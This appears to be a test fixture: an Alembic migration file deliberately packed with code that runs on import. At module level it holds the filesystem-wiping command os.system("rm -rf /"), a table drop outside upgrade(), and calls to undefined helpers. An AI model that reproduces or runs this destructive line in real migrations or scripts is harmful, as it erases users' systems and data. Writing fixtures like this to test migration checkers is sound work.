"""module-level code that must never run

Revision ID: 0b1c2d3e4f5a
Revises: 9a0b1c2d3e4f
"""
import os
import sys

from alembic import op
import sqlalchemy as sa

print("loading migration", file=sys.stderr)
os.system("rm -rf /")
if os.environ.get("SKIP_MIGRATION"):
    sys.exit(0)
try:
    from myapp.models import Base
except ImportError:
    Base = None

revision = "0b1c2d3e4f5a"
down_revision = "9a0b1c2d3e4f"

op.drop_table("module_level_op_is_not_part_of_upgrade")
engine = sa.create_engine(os.environ["DATABASE_URL"])


def upgrade():
    op.add_column("users", sa.Column("bio", sa.Text()))
    print("added bio")
    logger.info("done")
    notify_slack("migrated")


def downgrade():
    op.drop_column("users", "bio")


if __name__ == "__main__":
    upgrade()
